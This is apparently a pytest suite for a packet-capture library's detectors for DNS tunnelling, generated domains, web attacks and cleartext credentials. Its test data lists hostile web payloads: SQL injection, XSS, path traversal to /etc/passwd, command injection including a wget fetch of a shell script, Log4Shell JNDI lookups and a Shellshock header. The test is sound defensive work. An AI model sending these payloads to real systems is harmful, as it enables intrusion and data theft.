"""What detectors read of text: the tables against a twin, however a pass is run, and the rules over them."""

from __future__ import annotations

import base64
import csv
import hashlib
import inspect
import os
import random
import shutil
import struct
import subprocess
from collections import Counter
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import naive_text
from captures import ethernet, ipv4, pcap_bytes, udp
from captures_text import START, dns_capture, dns_packet, lookups, question, requests, segments
from naive_text import Message
from pcapframe import _core, _detect_text
from pcapframe._finding import Finding
from pcapframe._frame import Frame
from test_count import opened

LAB = Path(__file__).parents[1] / "examples" / "lab.pcap"
CORPUS = os.environ.get("PCAPFRAME_CORPUS")
needs_corpus = pytest.mark.skipif(CORPUS is None, reason="PCAPFRAME_CORPUS names no folder of captures")
PATTERNS = _core.attack_patterns()


def tables_of(source: Any, threads: int = 1, chunk: int = 0) -> dict[str, Frame]:
    found, _ = opened(source, threads, chunk)._run(_core.detect_text)
    return {name: Frame(native) for name, native in found.items()}


def rows_of(frame: Frame) -> list[dict[str, Any]]:
    """Rows as dicts; times are nanoseconds, null ones None."""
    columns = {}
    for name in frame.columns:
        column = frame[name]
        values = column.values.view("int64") if column.values.dtype.kind in "Mm" else column.values
        valid = [True] * len(values) if column.valid is None else column.valid
        columns[name] = [value if ok else None for value, ok in zip(values.tolist(), valid, strict=True)]
    return [dict(zip(columns, row, strict=True)) for row in zip(*columns.values(), strict=True)]


def findings(source: Any, rule: Any = None, **thresholds: Any) -> list[Finding]:
    tables = tables_of(source)
    return [each for one in ([rule] if rule else _detect_text.RULES) for each in one(tables, **thresholds)]


# --- names -----------------------------------------------------------------------------------------------------------

labels = st.lists(
    st.sampled_from([b"www", b"WWW", b"a", b"example", b"co", b"uk", b"COM", b"ab.c", b"\\", b"\xc3\xa9", b"\xff"])
    | st.binary(min_size=1, max_size=63),
    max_size=4,
).map(tuple)  # fmt: skip
messages = st.builds(
    Message,
    client=st.sampled_from(["10.0.0.1", "10.0.0.2", "10.0.0.53"]),
    server=st.sampled_from(["10.0.0.53", "192.0.2.1"]),
    labels=labels,
    kind=st.sampled_from([1, 28, 16, 10, 5, 65399, 65535, 12]),
    response=st.booleans(),
    rcode=st.sampled_from([0, 3, 2]),
    answer=st.sampled_from([b"", bytes(16), bytes(200)]),
    time=st.integers(0, 400).map(lambda n: START * 10**9 + n * 10**9 + n),
).map(lambda each: each if each.response else each._replace(rcode=0, answer=b""))


def check_names(made: list[Message], tables: dict[str, Frame]) -> None:
    clients, domains = naive_text.names(made)
    kept = [name for name in tables["dns_domains"].columns if name != "example"]
    assert rows_of(tables["dns_clients"]) == [{k: row[k] for k in tables["dns_clients"].columns} for row in clients]
    got = [{name: row[name] for name in kept} for row in rows_of(tables["dns_domains"])]
    want = [{name: row[name] for name in kept} for row in domains]
    for row, other in zip(got, want, strict=True):  # sums of rounded logarithms
        assert abs(row.pop("entropy") - other.pop("entropy")) <= other["names"]
    assert got == want


@settings(max_examples=80)
@given(made=st.lists(messages, max_size=25), threads=st.sampled_from([1, 3]), chunk=st.sampled_from([0, 100, 700]))
def test_names_equal_the_twin(made: list[Message], threads: int, chunk: int) -> None:
    check_names(made, tables_of(dns_capture(made), threads, chunk))


@pytest.mark.parametrize(
    ("name", "domain"),
    [
        ("a.b.example.com", "example.com"),
        ("example.com", "example.com"),
        ("a.b.example.co.uk", "example.co.uk"),
        ("example.co.uk", "example.co.uk"),
        ("co.uk", "co.uk"),
        ("x.com.au", "x.com.au"),
        ("x.y.com.example", "com.example"),
        ("t.co", "t.co"),
        ("localhost", "localhost"),
        ("1.2.0.192.in-addr.arpa", "in-addr.arpa"),
    ],
)
def test_registered_domain(name: str, domain: str) -> None:
    (row,) = rows_of(tables_of(lookups([name]))["dns_domains"])
    assert row["domain"] == domain
    assert row["example"] == name


def test_multicast_names_are_left_out() -> None:
    query = struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + question([b"printer", b"local"]) + struct.pack("!HH", 12, 1)
    frame = ethernet(ipv4(udp(query, 5353, 5353))).octets
    assert len(tables_of(pcap_bytes([frame]))["dns_domains"]) == 0


def base32(seed: int, size: int) -> str:
    return base64.b32encode(random.Random(seed).randbytes(size)).decode().lower().rstrip("=")


def tunnelled(kind: int, octets: int, answer: int, count: int = 60) -> bytes:
    return lookups((f"{base32(i, octets)}.t.evil.example" for i in range(count)), kind, answer=bytes(answer))


@pytest.mark.parametrize(
    ("capture", "severity"),
    [
        (tunnelled(16, 35, 200), "high"),
        (tunnelled(10, 6, 300), "high"),  # little up, much down
        (tunnelled(1, 35, 16, 80), "high"),  # by addresses: all is in the names
        (tunnelled(1, 35, 16), "medium"),  # the same, not 4 kB yet
        (tunnelled(5, 35, 60), "high"),
        (tunnelled(16, 6, 30), None),  # a sign alone is none
    ],
)
def test_tunnels(capture: bytes, severity: str | None) -> None:
    found = findings(capture, _detect_text.dns_tunnel)
    assert [each.severity for each in found] == ([severity] if severity else [])
    for each in found:
        assert (each.kind, each.source, each.target, each.technique) == (
            "dns_tunnel", "10.0.0.1", "10.0.0.53", "T1071.004")  # fmt: skip
        assert "domain=evil.example, names=" in each.evidence
        assert each.first_time == START * 10**9


def test_a_tunnel_through_a_resolver_is_one_finding() -> None:
    made = []
    for i in range(60):
        name = (base32(i, 30).encode(), b"t", b"evil", b"example")
        for client, server in (("10.0.0.1", "10.0.0.53"), ("10.0.0.53", "192.0.2.9")):
            made.append(Message(client, server, name, 16, False, 0, b"", START * 10**9 + i))
    (found,) = findings(dns_capture(made), _detect_text.dns_tunnel)
    assert (found.source, found.target) == ("10.0.0.1", "192.0.2.9")
    assert "asked=10.0.0.53" in found.evidence


HONEST_NAMES = {
    "content by its MD5": (f"{hashlib.md5(b'%d' % i).hexdigest()}.img.cdn.example" for i in range(200)),
    "many hosts": (f"host{i}.corp.example" for i in range(500)),
    "reverse names": (".".join(reversed(f"{i:032x}")) + ".ip6.arpa" for i in range(200)),
    "one long name": ["-".join(["very"] * 15) + ".cdn.example"] * 300,
}


@pytest.mark.parametrize("what", HONEST_NAMES)
def test_honest_names_are_no_tunnel(what: str) -> None:
    assert [each for each in findings(lookups(list(HONEST_NAMES[what]))) if each.severity != "low"] == []


def test_a_known_domain_can_be_left_out() -> None:
    assert findings(tunnelled(16, 35, 200), _detect_text.dns_tunnel, ignore={"evil.example"}) == []
    assert findings(tunnelled(16, 35, 200), _detect_text.dns_tunnel, names=61) == []


def test_nxdomain() -> None:
    guessed = lookups([f"host{i}.corp.example" for i in range(80)], rcode=3)
    (found,) = findings(guessed, _detect_text.dns_nxdomain)
    assert (found.kind, found.severity, found.technique) == ("dns_nxdomain", "medium", "T1590.002")
    assert "nxdomain=80, names=80" in found.evidence
    assert "most_below=corp.example" in found.evidence
    (again,) = findings(lookups(["wpad.corp.example"] * 80, rcode=3), _detect_text.dns_nxdomain)
    assert again.severity == "low"
    slow = lookups([f"host{i}.corp.example" for i in range(80)], rcode=3, every=4)
    assert findings(slow, _detect_text.dns_nxdomain) == []
    assert len(findings(slow, _detect_text.dns_nxdomain, minute=10)) == 1


def drawn(count: int) -> list[str]:
    source = random.Random(1)
    letters = "abcdefghijklmnopqrstuvwxyz"
    return ["".join(source.choice(letters) for _ in range(14)) + source.choice([".com", ".net"]) for _ in range(count)]


WORDS = [
    "facebook", "wikipedia", "instagram", "whatsapp", "microsoft", "linkedin", "pinterest", "wordpress", "cloudflare",
    "stackoverflow", "mozilla", "booking", "theguardian", "nytimes", "washingtonpost", "reuters", "bloomberg",
    "telegraph", "independent", "accuweather", "homedepot", "bestbuy", "costco", "walgreens", "nordstrom", "marriott",
    "expedia", "tripadvisor", "airbnb", "southwest",
]  # fmt: skip


def test_generated_domains() -> None:
    (found,) = findings(lookups(drawn(60), rcode=3), _detect_text.dns_dga)
    assert (found.kind, found.severity, found.technique) == ("dns_dga", "high", "T1568.002")
    assert "failed_domains=60" in found.evidence
    (few,) = findings(lookups(drawn(20), rcode=3, every=30), _detect_text.dns_dga)
    assert few.severity == "medium"
    typed = lookups([word + ".example" for word in WORDS], rcode=3)
    assert findings(typed, _detect_text.dns_dga) == []
    listed = lookups([a + b + ".com" for a in WORDS[:7] for b in WORDS[7:14]], rcode=3)
    assert [each.severity for each in findings(listed, _detect_text.dns_dga)] == ["medium"]
    assert findings(lookups(drawn(60)), _detect_text.dns_dga) == []  # they are there


def test_words_do_not_look_random() -> None:
    assert sum(map(_detect_text.looks_random, WORDS)) <= 2  # the rule wants ten that fail
    missed = [name for name in drawn(300) if not _detect_text.looks_random(name.partition(".")[0])]
    assert len(missed) < 45  # of letters drawn by lot one label in seven may pass for a word


# --- requests --------------------------------------------------------------------------------------------------------

PIECES = st.sampled_from(
    [b"?", b"/", b"=", b"&", b"+", b"%20", b"%2520", b"%27", b"%u0027", b"'", b"1", b"42", b"%", b"%4", b"%zz", b"..",
     b"%2e%2e%2f", b"%c0%ae", b"%00", b"/*", b"*/", b"/**/", b"/*!50000", b"<", b"%3C", b"%253Cscript", b"${", b"id"]
) | st.sampled_from([p.replace("#", "7").replace("~", "").replace("*", "x").replace("!", "").encode()
                     for _, _, p in PATTERNS])  # fmt: skip


def held(target: bytes, threads: int = 1) -> dict[str, tuple[int, int, str]]:
    rows = rows_of(tables_of(requests(target), threads)["web_requests"])
    return {row["attack"]: (row["requests"], row["weak"], row["pattern"]) for row in rows}


@settings(max_examples=100)
@given(pieces=st.lists(PIECES | st.binary(max_size=3), max_size=12), quoting=st.sampled_from([None, quote, quote_plus]))
def test_requests_equal_the_twin(pieces: list[bytes], quoting: Any) -> None:
    target = b"".join(pieces)
    target = quoting(target).encode() if quoting else target
    target = b"/a?q=" + target.replace(b" ", b"%20").replace(b"\n", b"").replace(b"\r", b"")
    want = naive_text.held(target, [each for each in PATTERNS if each[0] != "scanner"])
    assert held(target) == {attack: (int(not weak), int(weak), text) for attack, (weak, text) in want.items()}


def test_every_pattern_is_held_by_what_it_stands_for() -> None:
    """Written with capitals, percent-encoded once and twice, each in a request to a port of its own."""
    frames, want = [], {}
    for i, (attack, _, pattern) in enumerate(PATTERNS):
        text = pattern.replace("#", "12").replace("~", "").replace("*", " x ").replace("!", "").upper()
        agent = text if attack == "scanner" else "x"
        for port, value in ((10_000 + i, quote(text, safe="")), (20_000 + i, quote(quote(text, safe=""), safe=""))):
            request = f"GET /a?q={value} HTTP/1.1\r\nUser-Agent: Mozilla {agent}/1.0\r\n\r\n"
            frames += segments((True, request.encode()), port=port)
            want[port] = attack
    rows = rows_of(tables_of(pcap_bytes(frames))["web_requests"])
    got = {(row["port"], row["attack"]) for row in rows}
    assert [each for each in want.items() if each not in got] == []


HONEST = [
    b"/", b"/index.html?id=3", b"/search?q=union+station", b"/search?q=rock+and+roll", b"/search?q=3+or+4+doors",
    b"/search?q=O%27Reilly", b"/search?q=select+a+seat+from+the+map", b"/docs/javascript/scripts.js",
    b"/app/item?id=3&order=asc", b"/p?x=%7B%22a%22%3A1%7D", b"/a/b/c?sort=-date&limit=10", b"/img/..hidden/x.png",
    b"/wiki/Order_by", b"/search?q=drop+table+runners", b"/cgi?cmd=start", b"/?utm_source=a&utm_medium=b%20c",
    b"/search?q=caf%C3%A9", b"/download?file=report.pdf", b"/api/v1/users/1/sessions", b"/search?q=alert+level+5",
    b"/search?q=cats+%26+dogs", b"/p?q=100%25+cotton", b"/search?q=tom%27s+and+jerry%27s",
]  # fmt: skip


def test_honest_requests() -> None:
    agents = b"User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36\r\nCookie: a=b; c=${d\r\n"
    assert findings(requests(*HONEST, headers=agents)) == []


ATTACKS = {
    "sqli": [b"/i?id=1'+OR+'1'='1", b"/i?id=1%27%20or%201%3D1--", b"/i?id=1+UnIoN/**/aLl/**/SeLeCt+1,2",
             b"/i?id=1%2527%2520AND%2520sleep(5)", b"/i?id=1/*!50000union*//*!50000select*/1",
             b"/i?id=1);waitfor+delay+'0:0:5'--"],
    "xss": [b"/s?q=%3CScRiPt%3Ealert(1)", b"/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            b"/s?q=%253Csvg/onload=alert(1)%253E", b"/s?q=javascript:alert(document.domain)"],
    "traversal": [b"/d?f=../../../../etc/passwd", b"/d?f=..%2f..%2f..%2fwindows%2fwin.ini", b"/%2e%2e/%2e%2e/x",
                  b"/d?f=..%252f..%252fx", b"/d?f=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afx", b"/d?f=..%5c..%5cboot.ini"],
    "command": [b"/p?h=1.1.1.1;cat%20/etc/passwd", b"/p?h=1.1.1.1|id", b"/p?h=$(whoami)", b"/p?h=%60id%60",
                b"/p?h=1%26%26+ping+-c+5+x", b"/p?h=;wget%20http://x/a.sh"],
    "lookup": [b"/?x=${jndi:ldap://x/a}", b"/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", b"/?x={{7*7}}"],
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks(attack: str) -> None:
    for target in ATTACKS[attack]:
        found = findings(requests(target), _detect_text.web_attack)
        assert f"web_attack_{attack}" in {each.kind for each in found}, target
        assert {each.severity for each in found} == {"medium"}
    many = findings(requests(*(ATTACKS[attack] * 5)), _detect_text.web_attack)
    (one,) = (each for each in many if each.kind == f"web_attack_{attack}")
    assert (one.severity, one.source, one.target, one.port, one.technique) == (
        "high", "10.0.0.1", "10.0.0.2", 8080, "T1190")  # fmt: skip


def test_weak_strings_need_company() -> None:
    assert findings(requests(b"/i?id=3'"), _detect_text.web_attack) == []
    (found,) = findings(requests(*[b"/i?id=3'"] * 5), _detect_text.web_attack)
    assert (found.kind, found.severity) == ("web_attack_sqli", "medium")
    assert "requests=0, weak=5" in found.evidence


def test_fields_and_agents() -> None:
    log4j = requests(b"/", headers=b"X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n")
    assert [each.kind for each in findings(log4j)] == ["web_attack_lookup"]
    shell = requests(b"/cgi-bin/x", headers=b"User-Agent: () { :; }; /bin/bash -c id\r\n")
    assert [each.kind for each in findings(shell)] == ["web_attack_command"]
    (nikto,) = findings(requests(b"/", headers=b"user-agent: Mozilla/5.00 (Nikto/2.1.6)\r\n"))
    assert (nikto.kind, nikto.severity, nikto.technique) == ("web_scanner", "medium", "T1595.002")


# --- logins ----------------------------------------------------------------------------------------------------------


def encoded(text: bytes) -> bytes:
    return base64.b64encode(text)


C, S = True, False
FTP = [(S, b"220 hi\r\n"), (C, b"USER bob\r\n"), (S, b"331 password\r\n"), (C, b"PASS s3cr3t\r\n"), (S, b"230 in\r\n")]
SMTP = [(S, b"220 hi ESMTP\r\n"), (C, b"EHLO a\r\n"), (S, b"250-a\r\n250 AUTH LOGIN PLAIN\r\n")]
KEYS = [(C, bytes([key])) for key in b"bix\x7f\x7fob\r\0"]
TELNET = [(S, b"\xff\xfd\x18Debian\r\nhost login: "), (C, b"\xff\xfb\x18"), *KEYS, (S, b"\r\nPassword: "),
          *((C, bytes([key])) for key in b"s3cr3t\r"), (S, b"\r\nLast login: today\r\n$ ")]  # fmt: skip
LOGINS: dict[str, tuple[int, list[tuple[bool, bytes]], tuple[str, str, str, int, int]]] = {
    "ftp": (21, FTP, ("ftp", "bob", "s3cr3t", 1, 0)),
    "ftp elsewhere": (2121, FTP, ("ftp", "bob", "s3cr3t", 1, 0)),
    "ftp refused": (21, [*FTP[:4], (S, b"530 no\r\n")], ("ftp", "bob", "s3cr3t", 0, 1)),
    "ftp one way": (21, [said for said in FTP if said[0]], ("ftp", "bob", "s3cr3t", 0, 0)),
    "pop3": (110, [(S, b"+OK\r\n"), (C, b"user bob\r\n"), (S, b"+OK\r\n"), (C, b"pass s3cr3t\r\n"), (S, b"-ERR\r\n")],
             ("pop3", "bob", "s3cr3t", 0, 1)),
    "pop3 elsewhere": (1100, [(C, b"USER bob\r\n"), (S, b"+OK\r\n"), (C, b"PASS s3cr3t\r\n"), (S, b"+OK\r\n")],
                       ("pop3", "bob", "s3cr3t", 1, 0)),
    "smtp plain": (25, [*SMTP, (C, b"AUTH PLAIN " + encoded(b"\0bob\0s3cr3t") + b"\r\n"), (S, b"235 ok\r\n")],
                   ("smtp", "bob", "s3cr3t", 1, 0)),
    "smtp plain later": (587, [*SMTP, (C, b"auth plain\r\n"), (S, b"334 \r\n"),
                               (C, encoded(b"me\0bob\0s3cr3t") + b"\r\n"), (S, b"535 no\r\n")],
                         ("smtp", "bob", "s3cr3t", 0, 1)),
    "smtp login": (25, [*SMTP, (C, b"AUTH LOGIN\r\n"), (S, b"334 VXNlcm5hbWU6\r\n"), (C, encoded(b"bob") + b"\r\n"),
                        (S, b"334 UGFzc3dvcmQ6\r\n"), (C, encoded(b"s3cr3t") + b"\r\n"), (S, b"235 ok\r\n")],
                   ("smtp", "bob", "s3cr3t", 1, 0)),
    "imap": (143, [(S, b"* OK\r\n"), (C, b'a1 LOGIN "bob" "s3cr3t"\r\n'), (S, b"a1 OK in\r\n")],
             ("imap", "bob", "s3cr3t", 1, 0)),
    "telnet": (23, TELNET, ("telnet", "bob", "s3cr3t", 1, 0)),
    "telnet by lines": (2323, [(S, b"login: "), (C, b"bob\r\n"), (S, b"Password:"), (C, b"s3cr3t\r\n"),
                               (S, b"Login incorrect\r\nlogin: ")], ("telnet", "bob", "s3cr3t", 0, 1)),
    "http": (80, [(C, b"GET / HTTP/1.1\r\nAuthorization: Basic " + encoded(b"bob:s3cr3t") + b"\r\n\r\n")],
             ("http", "bob", "s3cr3t", 0, 0)),
    "proxy": (3128, [(C, b"GET http://a/ HTTP/1.1\nproxy-authorization: basic " + encoded(b"bob:s3cr3t") + b"\r\n\n")],
              ("http", "bob", "s3cr3t", 0, 0)),
}  # fmt: skip
SHOWN = ("protocol", "user", "secret", "accepted", "refused")


@pytest.mark.parametrize("what", LOGINS)
@pytest.mark.parametrize("again", [False, True], ids=["once", "sent twice"])
def test_logins(what: str, again: bool) -> None:
    port, said, want = LOGINS[what]
    frames = [frame for frame in segments(*said, port=port) for _ in range(1 + (again and want[0] != "http"))]
    (row,) = rows_of(tables_of(pcap_bytes(frames))["logins"])
    assert tuple(row[name] for name in SHOWN) == want
    assert (row["client"], row["server"], row["port"], row["tries"], row["secrets"]) == (
        "10.0.0.1",
        "10.0.0.2",
        port,
        1,
        1,
    )


NO_LOGIN = {
    "irc": (6667, [(C, b"PASS x\r\nNICK bob\r\n")]),
    "mail about passwords": (25, [*SMTP, (C, b"DATA\r\n"), (C, b"USER bob\r\nPASS x\r\n.\r\n")]),
    "half a line": (21, [(C, b"USER bob\r\n"), (C, b"PASS s3c")]),
    "no base64": (25, [*SMTP, (C, b"AUTH PLAIN not*base64\r\n")]),
    "cancelled": (25, [*SMTP, (C, b"AUTH LOGIN\r\n"), (C, b"*\r\n")]),
    "bearer": (80, [(C, b"GET / HTTP/1.1\r\nAuthorization: Bearer abc\r\n\r\n")]),
}


@pytest.mark.parametrize("what", NO_LOGIN)
def test_what_is_no_login(what: str) -> None:
    port, said = NO_LOGIN[what]
    assert len(tables_of(pcap_bytes(segments(*said, port=port)))["logins"]) == 0


def test_secrets_are_masked() -> None:
    capture = pcap_bytes(segments(*FTP))
    (hidden,) = findings(capture)
    (shown,) = findings(capture, _detect_text.cleartext_credentials, show=True)
    assert (hidden.kind, hidden.severity, hidden.port) == ("cleartext_credentials", "medium", 21)
    assert "s3cr3t" not in repr(hidden)
    assert "user=bob, secret=****" in hidden.evidence
    assert "secret=s3cr3t" in shown.evidence
    anonymous = [(C, b"USER anonymous\r\n"), (C, b"PASS me@example.org\r\n")]
    (public,) = findings(pcap_bytes(segments(*anonymous)))
    assert public.severity == "low"


def test_many_tries_are_one_row() -> None:
    frames = []
    for i in range(30):
        said = [*FTP[:3], (C, b"PASS try%d\r\n" % (i % 20)), (S, b"230 in\r\n" if i == 7 else b"530 no\r\n")]
        frames += segments(*said, client_port=30_000 + i)
    (row,) = rows_of(tables_of(pcap_bytes(frames))["logins"])
    assert (row["tries"], row["accepted"], row["refused"], row["secrets"], row["secret"]) == (30, 1, 29, 20, "try7")


# --- however it is run -----------------------------------------------------------------------------------------------


def everything() -> bytes:
    frames = []
    for i, (port, said, _) in enumerate(LOGINS.values()):
        frames += segments(*said, port=port, client_port=41_000 + i)
    for i, target in enumerate(target for targets in ATTACKS.values() for target in targets):
        frames += segments((C, b"GET " + target + b" HTTP/1.1\r\n\r\n"), port=80, client_port=42_000 + i, v6=i % 2 == 0)
    names = [*drawn(40), *(f"{base32(i, 40)}.evil.example" for i in range(40))]
    for name in names:
        labels = tuple(name.encode().split(b"."))
        frames.append(dns_packet(Message("10.0.0.1", "10.0.0.53", labels, 16, True, 3, b"", 0)).octets)
    random.Random(3).shuffle(frames)
    return pcap_bytes(frames)


@pytest.mark.parametrize("source", [everything(), LAB], ids=["made", "lab"])
def test_the_same_however_it_is_run(source: Any) -> None:
    want = {name: rows_of(frame) for name, frame in tables_of(source).items()}
    assert sum(map(len, want.values())) > 10
    for threads, chunk in ((2, 0), (1, 64), (3, 500), (8, 4096)):
        got = {name: rows_of(frame) for name, frame in tables_of(source, threads, chunk).items()}
        assert got == want, (threads, chunk)


# --- an oracle -------------------------------------------------------------------------------------------------------

needs_tshark = pytest.mark.skipif(shutil.which("tshark") is None, reason="needs tshark on the path")


def tshark(path: Path, *arguments: str) -> list[str]:
    command = ["tshark", "-n", "-r", str(path), *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines()


def tshark_logins(path: Path) -> Counter[tuple[str, str]]:
    """(protocol, user) of each login that `-z credentials` lists; its SMTP users are base64, its IMAP ones quoted."""
    found: Counter[tuple[str, str]] = Counter()
    for line in tshark(path, "-q", "-z", "credentials"):
        for name, protocol in (("FTP", "ftp"), ("POP3", "pop3"), ("HTTP basic auth", "http")):
            number, _, rest = line.partition(" ")
            if number.isdigit() and rest.strip().startswith(name + " "):
                found[protocol, rest.strip().removeprefix(name).split()[0]] += 1
    return found


def check_logins(path: Path, logins: Frame, missed: frozenset[int] = frozenset()) -> None:
    ours: Counter[tuple[str, str]] = Counter()
    for row in rows_of(logins):
        if row["protocol"] in ("ftp", "pop3", "http") and row["port"] not in missed:
            ours[row["protocol"], row["user"]] += row["tries"]
    assert ours == tshark_logins(path)


@needs_tshark
def test_logins_equal_tshark(tmp_path: Path) -> None:
    frames = []
    for i, (port, said, _) in enumerate(LOGINS.values()):
        frames += segments(*said, port=port, client_port=41_000 + i)
    path = tmp_path / "logins.pcap"
    path.write_bytes(pcap_bytes(frames))
    elsewhere = frozenset({1100, 2121, 3128})  # it knows FTP and POP3 by their ports, and lists no proxy's
    check_logins(path, tables_of(path)["logins"], elsewhere)


@needs_corpus
@needs_tshark
@pytest.mark.parametrize("name", ["benign", "ftp_brute", "benign_lookalike", "dns_tunnel_script"])
def test_laboratory_equals_tshark(name: str) -> None:
    path = Path(str(CORPUS)) / "lab" / f"{name}.pcap"
    tables = tables_of(path)
    check_logins(path, tables["logins"])
    counts = Counter(tshark(path, "-Y", "dns.flags.rcode == 3", "-T", "fields", "-e", "ip.dst"))
    assert {row["client"]: row["nxdomain"] for row in rows_of(tables["dns_clients"]) if row["nxdomain"]} == counts
    queries = tshark(path, "-Y", "dns.flags.response == 0", "-T", "fields", "-e", "ip.src", "-e", "dns.qry.name")
    asked = {tuple(line.lower().split("\t")) for line in queries}
    different = Counter(client for client, _ in asked)
    ours: Counter[str] = Counter()
    for row in rows_of(tables["dns_domains"]):
        ours[row["client"]] += row["names"]
    assert ours == different


# --- real captures ---------------------------------------------------------------------------------------------------

OURS = {"dns_tunnel", "web_attack_sqli", "web_attack_xss"}


@needs_corpus
def test_attacks_of_the_laboratory() -> None:
    folder = Path(str(CORPUS)) / "lab"
    found = {path.name: findings(path) for path in folder.glob("*.pcap")}
    with (folder / "truth.csv").open() as file:
        for row in csv.DictReader(file):
            kinds = {(each.kind, each.source, each.target) for each in found.get(row["capture"], ())}
            if row["label"] not in OURS or (row["label"], row["capture"]) == (
                "web_attack_xss",
                "web_attack_snap96.pcap",
            ):
                continue  # of the latter ten octets of each request were captured
            ends = {(row["attacker_ip"], row["victim_ip"])}
            assert ends & {(s, t) for kind, s, t in kinds if kind == row["label"]}, row
    for name, each in found.items():
        kinds = {one.kind for one in each if one.severity == "high"}
        assert not kinds or name.startswith(("dns_tunnel", "web_attack")), (name, kinds)


@needs_corpus
@pytest.mark.parametrize("kind", ["cname", "txt"])
def test_tunnels_of_others(kind: str) -> None:
    folder = Path(str(CORPUS)) / "captures" / "ggyggy666+DNS-Tunnel-Datasets" / "tunnel" / f"dnscat2-{kind}"
    (path,) = folder.glob("*.pcap")
    (found,) = findings(path)
    assert (found.kind, found.severity) == ("dns_tunnel", "high")
    assert "domain=ggy666.tk" in found.evidence


def test_core_and_page_agree() -> None:
    """The page names every rule and threshold, with its value."""
    page = (Path(__file__).parents[1] / "docs" / "detectors-text.md").read_text()
    for rule in _detect_text.RULES:
        assert f"## {rule.__name__}" in page
        for parameter in list(inspect.signature(rule).parameters.values())[1:]:
            assert f"| `{parameter.name}` | {parameter.default} |" in page, (rule.__name__, parameter)
